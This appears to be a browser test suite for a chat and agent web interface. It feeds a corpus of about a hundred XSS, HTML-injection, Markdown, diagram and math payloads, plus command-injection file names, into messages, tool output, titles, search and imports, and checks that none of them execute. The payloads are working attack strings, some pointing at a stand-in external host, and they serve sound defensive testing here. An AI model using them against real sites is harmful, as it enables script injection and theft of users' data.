/**
 * What others wrote is shown and never obeyed: a corpus of attempts as model text, tool output, titles, file names, search
 * hits and imported sessions. The kit notices requests, breaches of the policy and complaints; here also what ran.
 */
import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { openPage, startServer, test } from "./kit.mjs";
import { composer, goTo, messagesOf, newSession, openSession, say, settled, sideways, thread, until } from "./scenes.mjs";

const OUT = "//elsewhere.test/x";
const RUN = "window.pwned=1";
const TAB = "\t";
const BIDI = "\u202Egnp.exe\u202C";

/** Each does something when it is taken for what it looks like: sets `window.pwned`, loads from OUT, or goes there. */
const CORPUS = [
  // Scripts and handlers.
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=http:${OUT}.js></script>`,
  `<script>/*<</script><img src=x onerror=${RUN}>*/</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="http:${OUT}.png">`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img srcset="http:${OUT}.png 1x">`,
  `<image href=http:${OUT}.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="http:${OUT}.svg"/></svg>`,
  `<svg><use href="http:${OUT}.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src=http:${OUT}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="http:${OUT}.swf">`,
  `<video src=http:${OUT}.mp4 onerror=${RUN}><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="background:url(http:${OUT}.png)">x</div>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0">over everything</div>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
  // What changes a page as a whole.
  `<style>*{display:none!important}</style>`,
  `<style>@import "http:${OUT}.css";</style>`,
  `<link rel=stylesheet href=http:${OUT}.css>`,
  `<link rel=prefetch href=http:${OUT}>`,
  `<meta http-equiv=refresh content="0;url=http:${OUT}">`,
  `<base href=http:${OUT}/>`,
  `<form action=http:${OUT}><button autofocus formaction=http:${OUT}>send</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<dialog open>Your token, please</dialog>`,
  `<title>taken over</title>`,
  `<base target=_self><a href="//evil">x</a>`,
  `<plaintext>`,
  `<textarea><script>${RUN}</script>`,
  // What only becomes HTML when it is cleaned badly.
  `<!--><script>${RUN}</script>-->`,
  `<!-- ><img src=x onerror=${RUN}> -->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `<x/onclick=${RUN}>custom</x>`,
  `<a href="java&Tab;script:${RUN}">x</a>`,
  // Links and pictures in Markdown.
  `[js](javascript:${RUN})`,
  `[case](JaVaScRiPt:${RUN})`,
  `[tab](java${TAB}script:${RUN})`,
  `[entity](javascript&colon;${RUN})`,
  `[hex](&#x6A;avascript:${RUN})`,
  `[space]( javascript:${RUN})`,
  `[angle](<javascript:${RUN}>)`,
  `[control](\u0001javascript:${RUN})`,
  `[data](data:text/html,<script>${RUN}</script>)`,
  `[base64](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[vb](vbscript:msgbox(1))`,
  `[file](file:///etc/passwd)`,
  `[blob](blob:http:${OUT})`,
  `[relative](/api/sessions)`,
  `[fragment](#/s/ses_0)`,
  `[token](#token=stolen)`,
  `[two slashes](${OUT})`,
  `<javascript:${RUN}>`,
  `[ref]\n\n[ref]: javascript:${RUN}`,
  `![](http:${OUT}.png)`,
  `![js](javascript:${RUN})`,
  `![data](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `![ref][p]\n\n[p]: http:${OUT}.png`,
  `[![](http:${OUT}.png)](javascript:${RUN})`,
  `![a](http:${OUT}.png "onerror=${RUN}")`,
  `[title](http:${OUT} "x\\" onmouseover=${RUN})`,
  "```html\n<script>window.pwned=1</script>\n```",
  "```mermaid\ngraph TD;A[<img src=x onerror=window.pwned=1>]\n```",
  "```mermaid\n%%{init: {'securityLevel': 'loose', 'theme': 'base', 'themeCSS': '@import url(http://elsewhere.test/x.css);'}}%%\ngraph TD;A-->B\n```",
  "```mermaid\ngraph TD;A-->B\nclick A \"javascript:parent.pwned=1\"\nclick B call alert()\n```",
  "```mermaid\nsequenceDiagram\nA->>B: <script>parent.pwned=1</script>\n```",
  "```diff\n+<img src=x onerror=window.pwned=1>\n-<script>window.pwned=1</script>\n```",
  "$$\\htmlData{onclick=window.pwned=1}{x}\\includegraphics{http://elsewhere.test/x.png}\\url{javascript:window.pwned=1}$$",
  "$$\\def\\a{\\a\\a}\\a$$",
  "$$\\rule{100000em}{100000em}$$",
  "```\"><img/src=x/onerror=window.pwned=1>\ncode\n```",
  "$$\\href{javascript:window.pwned=1}{x}$$",
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n| ![](http:${OUT}.png) | y |`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  // What breaks a layout or a reader's eye.
  `left ${BIDI} right \u2066isolated\u2069 \u200Fmarks\u200E`,
  "שלום עולם, זה טקסט מימין לשמאל with English inside עברית",
  "مرحبا بالعالم، هذا نص طويل من اليمين إلى اليسار",
  `Z${"\u0300\u0301\u0302\u0303\u0304\u0305".repeat(20)}a${"\u0316\u0317\u0318\u0319".repeat(20)}lgo`,
  "a".repeat(3000),
  `https://example.org/${"long".repeat(400)}`,
  "👩‍👩‍👧‍👦".repeat(200),
  "nul \u0001\u0002\u001b[31mred\u001b[0m \u0007 bell \u2028 line \u2029 paragraph \uFEFF \uFFFD",
  `${"> ".repeat(60)}deep`,
  `${"- ".repeat(60)}deep`,
];

let shared;
const sharedServer = () => (shared ??= startServer({ shared: true }));

async function guarded(page) {
  page.dialogs = [];
  page.left = [];
  page.on("dialog", (dialog) => {
    page.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.context().on("page", (other) => page.left.push(`opened ${other.url()}`));
  page.on("framenavigated", (frame) => {
    // The page's own, in which diagrams are drawn.
    if (frame !== page.mainFrame() && new URL(frame.url()).pathname !== "/assets/diagram.html") page.left.push(`a frame: ${frame.url()}`);
  });
  return page;
}

/** Nothing ran, and nothing was put into what is drawn now that does not belong there. */
async function clean(page, server) {
  const state = await page.evaluate(() => ({
    pwned: window.pwned,
    foreign: [...document.querySelectorAll("script:not([src]), script[src^=http], iframe:not(.clew-diagrams[sandbox=allow-scripts][src$='/assets/diagram.html']), object, embed, base, meta[http-equiv], link[href*=elsewhere], style, video, audio, form[action], [srcdoc], foreignObject, marquee, math:not(.katex math)")].map((element) => element.outerHTML.slice(0, 80)),
    handlers: [...document.querySelectorAll("*")].filter((element) => element.getAttributeNames().some((name) => name.startsWith("on"))).map((element) => element.outerHTML.slice(0, 80)),
    pictures: [...document.images].map((image) => image.src).filter((src) => !src.startsWith(location.origin) && !src.startsWith("blob:")),
    links: [...document.querySelectorAll("a[href]")].filter((link) => !/^(https?:|mailto:)/.test(link.href) || (new URL(link.href).origin !== location.origin && !(link.target === "_blank" && link.rel.includes("noopener")))).map((link) => link.outerHTML.slice(0, 120)),
    // A link of this page's own can only have been made by the page: it names a session.
    inner: [...document.querySelectorAll("article a[href^='#'], article a[href^='/']")].map((link) => link.getAttribute("href")).filter((href) => !/^#\/s\/ses_\w+$/.test(href)),
    origin: location.origin,
  }));
  assert.deepEqual(state, { pwned: undefined, foreign: [], handlers: [], pictures: [], links: [], inner: [], origin: server.url });
  assert.deepEqual(await sideways(page), []);
}

/** The same, and nothing was opened, asked or complained about; and it can still be used. */
async function harmless(page, server) {
  await clean(page, server);
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.left, []);
  assert.deepEqual(page.problems, []);
  // Clickable means that nothing lies over it.
  await composer(page).click();
  await composer(page).fill("still here");
  assert.equal(await composer(page).inputValue(), "still here");
  await composer(page).fill("");
}

/** From the end to the beginning, so that each row was drawn once, and looked at. */
async function readAll(page, server) {
  for (;;) {
    await clean(page, server);
    const top = await thread(page).evaluate((scroller) => {
      const before = scroller.scrollTop;
      scroller.scrollTop -= scroller.clientHeight * 2;
      return before;
    });
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    if (top === 0) return;
  }
}

test("the corpus is large, and each of it is another one", async () => {
  assert.equal(new Set(CORPUS).size, CORPUS.length);
  assert.equal(CORPUS.length >= 60, true);
});

test("as a model's text it is shown and does nothing, while it streams and after", async () => {
  const server = await sharedServer();
  const id = await newSession(server, "Model text");
  const page = await guarded(await openSession(server, id));
  await composer(page).waitFor();
  // The first part comes as a stream into the open page, the rest is read from the store.
  const halves = [CORPUS.slice(0, 50), CORPUS.slice(50)];
  for (const half of halves) {
    for (let at = 0; at < half.length; at += 10) await say(server, id, half.slice(at, at + 10).join("\n\n"));
  }
  await until(async () => (await page.getByRole("article", { name: "Assistant" }).count()) > 0, "no answer");
  await readAll(page, server);
  await harmless(page, server);
  await page.reload();
  await composer(page).waitFor();
  await page.getByRole("article", { name: "Assistant" }).last().waitFor();
  await readAll(page, server);
  await harmless(page, server);
  const said = (await messagesOf(server, id)).filter((message) => message.role === "user").map((message) => message.parts[0].text);
  assert.equal(said.join("\n\n"), CORPUS.join("\n\n"));
});

test("on a narrow screen it does not break the layout either", async () => {
  const server = await sharedServer();
  const id = await newSession(server, "Narrow", "demo/echo");
  await say(server, id, CORPUS.slice(-12).join("\n\n"));
  await say(server, id, CORPUS.filter((text) => text.startsWith("|") || text.includes("```")).join("\n\n"));
  const page = await guarded(await openSession(server, id, { width: 390 }));
  await page.getByRole("article", { name: "Assistant" }).last().waitFor();
  await readAll(page, server);
  await harmless(page, server);
});

test("as the input and the output of tools it is shown as the text it is", async () => {
  const server = await sharedServer();
  const root = join(server.folder, "tools");
  await mkdir(root);
  const text = CORPUS.join("\n");
  await writeFile(join(root, "corpus.txt"), text);
  const id = await newSession(server, "Tool output", "demo/tools", { workspace_root: root });
  const line = `<img src=x onerror=${RUN}><script>${RUN}</script>`;
  await say(server, id, `!bash printf '%s' '${line}'; cat corpus.txt`);
  const page = await guarded(await openSession(server, id));
  await page.getByRole("group", { name: "Approve this command?" }).getByText(line).first().waitFor();
  await harmless(page, server);
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByRole("button", { name: "Allow once" }).waitFor({ state: "detached" });
  await settled(server, id);
  await say(server, id, "!read corpus.txt");
  // As what a call would change, what it changed, and what a subagent does.
  await writeFile(join(root, "over.txt"), text.slice(0, 20_000));
  await say(server, id, `!write over.txt ${line}`);
  await page.getByRole("group", { name: "Change" }).getByText(CORPUS[0], { exact: false }).first().waitFor();
  await harmless(page, server);
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByRole("button", { name: "Allow once" }).waitFor({ state: "detached" });
  await settled(server, id);
  await say(server, id, `!task ${line}`);
  await page.getByRole("button", { name: "Allow once" }).click();
  await page.getByRole("button", { name: "Allow once" }).waitFor({ state: "detached" });
  await settled(server, id);
  await say(server, id, `!read ${line}`);
  await page.getByRole("article", { name: "Assistant" }).getByText("read failed").first().waitFor();
  for (const kind of [page.locator("[data-tool] > button[aria-expanded=false]"), page.getByRole("button", { name: /^Show all/ })]) {
    for (let left = await kind.count(); left > 0; left = await kind.count()) await kind.last().click();
  }
  const outputs = page.getByRole("group", { name: "Output" });
  await outputs.first().waitFor();
  const [call] = (await messagesOf(server, id)).flatMap((message) => message.parts.filter((part) => part.type === "tool-bash"));
  const stored = typeof call.output === "string" ? call.output : call.output.stdout ?? JSON.stringify(call.output, null, 2);
  const drawn = await outputs.first().textContent();
  assert.equal(drawn.includes(line), true, drawn.slice(0, 300));
  assert.equal(stored.includes(line), true);
  await readAll(page, server);
  await harmless(page, server);
});

test("as titles it is shown in the list, the bar, the tab, the tree and the dialogs, and does nothing", async () => {
  const server = await startServer();
  const titles = CORPUS.map((text) => text.replace(/[\n\r\u0000-\u001f\u2028\u2029]/g, " ").slice(0, 190));
  for (const title of titles) await newSession(server, title);
  const worst = `"><img src=x onerror=${RUN}>${"a".repeat(150)}`;
  const id = await newSession(server, worst);
  await say(server, id, "hello");
  const [first] = await messagesOf(server, id);
  await server.call("POST", `/api/sessions/${id}/branch`, { from_message_id: first.id, metadata: { title: `${worst.slice(0, 100)} branched` } });
  const page = await guarded(await openSession(server, id));
  await page.getByRole("article", { name: "Assistant" }).waitFor();
  const list = page.getByRole("list", { name: "Session list" });
  const { sessions } = await server.call("GET", "/api/sessions?limit=200");
  await until(async () => {
    await list.locator("li[data-row]").last().scrollIntoViewIfNeeded();
    return (await list.locator("li[data-row]").count()) === sessions.length;
  }, "not all sessions");
  const shown = await list.locator("bdi").allTextContents();
  assert.deepEqual(shown.toSorted(), sessions.map((session) => session.title).toSorted());
  assert.equal(await page.title(), `${worst} · clew`);
  await composer(page).fill("/tree");
  await composer(page).press("Enter");
  await page.getByRole("tabpanel", { name: "Tree" }).getByText("branched").waitFor();
  await list.getByRole("link", { name: worst }).last().press("Delete");
  await page.getByRole("dialog").getByText(worst).waitFor();
  await page.getByRole("button", { name: "Cancel" }).click();
  await harmless(page, server);
  await page.setViewportSize({ width: 390, height: 800 });
  await page.getByRole("button", { name: "Close the inspector" }).click();
  await harmless(page, server);
});

test("as names of files that are attached, read and listed it does nothing", async () => {
  const server = await sharedServer();
  const root = join(server.folder, "names");
  await mkdir(root);
  const names = [`<img src=x onerror=${RUN}>.txt`, `"><svg onload=${RUN}>.txt`, `${BIDI}.txt`, `${"n".repeat(200)}.txt`, "javascript:window.pwned=1", "שלום.txt", "$(touch pwned)`id`.txt"];
  for (const name of names) await writeFile(join(root, name), name);
  const id = await newSession(server, "File names", "demo/tools", { workspace_root: root });
  await say(server, id, names.map((name) => `!read ${name}`).join("\n"));
  await say(server, id, "!ls .");
  await server.call("PUT", `/api/sessions/${id}/permissions`, { rules: [{ permission: "*", pattern: "*", action: "allow" }] });
  await say(server, id, names.map((path) => `!write ${JSON.stringify({ path, content: "changed\n" })}`).join("\n"));
  const page = await guarded(await openSession(server, id));
  await page.getByRole("article", { name: "Assistant" }).last().waitFor();
  const files = names.map((name) => ({ name, mimeType: "text/plain", buffer: Buffer.from("hello") }));
  files.push({ name: `<svg onload=${RUN}>.svg`, mimeType: "image/svg+xml", buffer: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`) });
  await page.getByLabel("Files to attach").setInputFiles(files);
  await page.getByRole("button", { name: /^Remove/ }).nth(files.length - 1).waitFor();
  await harmless(page, server);
  await composer(page).fill("with files");
  await composer(page).press("Enter");
  await settled(server, id);
  await page.getByRole("article", { name: "You" }).last().getByRole("button", { name: names[0] }).waitFor();
  await page.keyboard.press("Control+i");
  await page.getByRole("tab", { name: "Changes" }).click();
  await page.getByRole("tabpanel", { name: "Changes" }).getByRole("button", { name: names[0] }).first().click();
  await page.getByRole("group", { name: "Changes of" }).waitFor();
  await harmless(page, server);
});

test("as search hits it is marked and does nothing", async () => {
  const server = await sharedServer();
  const id = await newSession(server, `Found <b onpointerover=${RUN}>bold</b>`);
  // A hit shows what stands around the words.
  const short = CORPUS.filter((text) => text.length < 80);
  for (let at = 0; at < short.length; at += 5) await say(server, id, short.slice(at, at + 5).map((text) => `needle ${text} haystack`).join("\n"));
  const page = await guarded(await openSession(server, id));
  await composer(page).waitFor();
  for (const words of ["needle haystack", `<script>${RUN}</script>`, `"><img src=x onerror=${RUN}>`, "javascript", "<mark>"]) {
    await page.keyboard.press("Control+Shift+F");
    await page.getByRole("textbox", { name: "Search all sessions" }).fill(words);
    await until(async () => /result/i.test(await page.getByRole("region", { name: "Search results" }).getByRole("status").textContent()), "no answer to the search");
    await harmless(page, server);
  }
});

test("in an imported session it does nothing: its title, its metadata, its model, its messages", async () => {
  const server = await sharedServer();
  const id = await newSession(server, "To be exported");
  await say(server, id, "MARK");
  const document = JSON.stringify(await server.call("GET", `/api/sessions/${id}/export?format=json`));
  const hostile = `<img src=x onerror=${RUN}><script>${RUN}</script>[x](javascript:${RUN})`;
  const escaped = JSON.stringify(hostile).slice(1, -1);
  const text = document.replaceAll("MARK", escaped).replaceAll("To be exported", escaped).replace('"metadata":{', `"metadata":{"label":"${escaped}","note":"${escaped}",`);
  const answer = await fetch(`${server.url}/api/import`, { method: "POST", headers: { authorization: `Bearer ${server.token}` }, body: text });
  assert.equal(answer.status, 201, await answer.clone().text());
  const made = await answer.json();
  const page = await guarded(await openSession(server, made.id));
  await page.getByRole("article", { name: "You" }).getByText(`<img src=x onerror=${RUN}>`).waitFor();
  await page.keyboard.press("Control+i");
  for (const tab of ["Tree", "Reflog", "Turn"]) {
    await page.getByRole("tab", { name: tab }).click();
    await page.getByRole("tabpanel", { name: tab }).getByText(/<img src=x/).first().waitFor();
  }
  await harmless(page, server);
});

test("a list that cannot be drawn says so, and everything beside it works", async () => {
  const server = await sharedServer();
  await server.call("POST", "/api/sessions", { title: "Listed" });
  const page = await openPage(server);
  await page.getByText("Connected").waitFor({ state: "attached" });
  page.allow(/Objects are not valid|error occurred in|Minified React error|status of 5/);
  await page.route("**/api/sessions?*", async (route) => {
    const answer = await (await route.fetch()).json();
    await route.fulfill({ json: { ...answer, sessions: answer.sessions.map((one) => ({ ...one, title: { no: "title" } })) } });
  });
  await page.reload();
  await page.getByRole("complementary", { name: "Sessions" }).getByRole("alert").getByText("The list of sessions could not be displayed").waitFor();
  await page.getByRole("main").getByRole("textbox", { name: "Message" }).fill("still here");
  assert.equal(await page.getByRole("main").getByRole("textbox", { name: "Message" }).inputValue(), "still here");
});

test("a link in the address leads nowhere but to sessions", async () => {
  const server = await sharedServer();
  const page = await guarded(await openPage(server));
  for (const hash of ["#/s/<img src=x onerror=window.pwned=1>", "#/s/../../x", "#/s/ses_0/m/<script>window.pwned=1</script>", "#javascript:window.pwned=1", "#/s/ses_0?beside=javascript:1", "#/s/ses_0/m/%E0%A4%A"]) {
    // There is no such session, which the console says too.
    page.allow(/status of 40[04]/);
    await goTo(page, hash);
    await page.getByRole("main").first().waitFor();
    assert.equal(await page.evaluate(() => window.pwned), undefined);
  }
  assert.deepEqual([page.dialogs, page.left, page.problems], [[], [], []]);
});
